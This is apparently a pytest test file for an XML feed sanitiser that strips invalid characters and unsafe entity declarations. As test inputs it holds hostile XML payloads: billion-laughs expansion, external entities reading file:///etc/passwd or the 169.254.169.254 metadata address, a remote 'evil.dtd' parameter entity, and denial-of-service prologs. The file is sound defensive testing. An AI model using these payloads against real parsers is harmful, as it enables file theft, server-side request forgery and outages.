"""Making XML harmless."""

from __future__ import annotations

import io
import time
import xml.sax

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from streams.errors import NotAFeedError
from streams.feeds.text import clean
from streams.feeds.xml import defuse, root_name


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("<rss version='2.0'>", "rss"),
        ("<?xml version='1.0'?>\n<!-- <html> -->\n<!DOCTYPE rss [<!ENTITY a 'b'>]><rdf:RDF>", "rdf"),
        ("<atom:feed>", "feed"),
        ("<!DOCTYPE html><HTML>", "html"),
        ("text < 3 and > 2", ""),
        ("<!-- never closed <rss>", ""),
        ("", ""),
    ],
)
def test_the_first_element_is_found_past_comments_and_declarations(text: str, name: str) -> None:
    assert root_name(text) == name


def test_a_sound_document_stays_as_it_is() -> None:
    document, problems = defuse("<rss><title>a &amp; b &#8217; &#x1F600;\n\t</title></rss>")
    assert document.endswith(b"<rss><title>a &amp; b &#8217; &#x1F600;\n\t</title></rss>")
    assert problems == []


@pytest.mark.parametrize(
    "harm",
    [
        "\0",
        "\x08",
        "\x1b",
        "\ud800",
        "\uffff",
        "&#0;",
        "&#xD800;",
        "&#xDFFF;",
        "&#x110000;",
        "&#8;",
        "&#99999999999;",
        f"&#x{'F' * 5000};",
        f"&#{'9' * 5000};",
    ],
)
def test_characters_that_xml_does_not_have_are_taken_out(harm: str) -> None:
    document, problems = defuse(f"<rss>a{harm}b</rss>")
    assert document.endswith(b"<rss>ab</rss>")
    assert [problem.kind for problem in problems] == ["control-characters"]


def test_plain_entities_are_put_in_the_place_of_their_names() -> None:
    declared = """<!ENTITY copy "&#169;"> <!ENTITY c "A &amp; B's &amp;copy;">"""
    document, problems = defuse(f"<!DOCTYPE rss [{declared}]><rss a='&c;'>&copy; <![CDATA[&c;]]> &d;</rss>")
    whole = b"<rss a='A &amp; B&apos;s &amp;copy;'>&#169; <![CDATA[&c;]]> &d;</rss>"
    assert (document.partition(b"\n")[2], problems) == (whole, [])


LAUGHS = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "declarations",
    [
        LAUGHS,
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY a PUBLIC "x" "http://169.254.169.254/">',
        '<!ENTITY % p SYSTEM "http://a.example/evil.dtd"> %p;',
        "<!ENTITY a '&#60;script&#62;'>",
        '<!ENTITY a "<item/>">',
        "<!ENTITY a " + "x" * 100_000,
    ],
)
def test_entities_that_are_more_than_plain_text_are_left_out(declarations: str) -> None:
    document, problems = defuse(f"<!DOCTYPE rss [{declarations}]><rss>&a; &l9;</rss>")
    assert b"SYSTEM" not in document
    assert b"&l8;" not in document
    assert b"%p" not in document
    assert [problem.kind for problem in problems] == ["xml-entities"]


def test_entities_that_would_blow_a_document_up_are_refused() -> None:
    text = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 900}">]><rss>{"&a;" * 100_000}</rss>'
    with pytest.raises(NotAFeedError) as raised:
        defuse(text)
    assert raised.value.kind == "xml-entities"


@pytest.mark.parametrize(
    "text",
    [
        "\n" * 2_000_000,
        " \n" * 1_000_000,
        "<!DOCTYPE " * 200_000,
        "<!--" * 500_000,
        "<?" * 1_000_000,
        "<" * 2_000_000,
        "<!ENTITY " * 200_000,
        '<!ENTITY a "' * 150_000,
        "&#" * 1_000_000,
        "<?xml " + "encoding='' " * 150_000,
    ],
    ids=range(10),
)
def test_long_prologs_take_no_long_time(text: str) -> None:
    before = time.process_time()
    defuse(text + "<rss/>")
    assert time.process_time() - before < 5


@settings(deadline=None)  # a busy machine is slow
@given(st.text(alphabet="<>!?-&#;[]\"' ENTITYDOCxX0d8\0\ud800", max_size=200))
def test_whatever_is_before_the_first_element_the_result_is_xml_so_far(text: str) -> None:
    try:
        document, _ = defuse(text + "<rss/>")
    except NotAFeedError:
        return
    prolog = document[: document.rindex(b"<rss/>")] if root_name(clean(text) + "<rss/>") == "rss" else b""
    if prolog.strip():
        xml.sax.parse(io.BytesIO(prolog + b"<rss/>"), xml.sax.ContentHandler())


def test_an_element_with_thousands_of_attributes_loses_them() -> None:
    many = " ".join(f"a{number}='x'" for number in range(20_000))
    assert defuse(f"<rss><item {many}><guid {many}/></item></rss>")[0].endswith(b"<rss><item><guid/></item></rss>")
    few = f"<rss><item a='{'x' * 10_000}' b='='/></rss>"
    assert defuse(few)[0].endswith(few.encode())
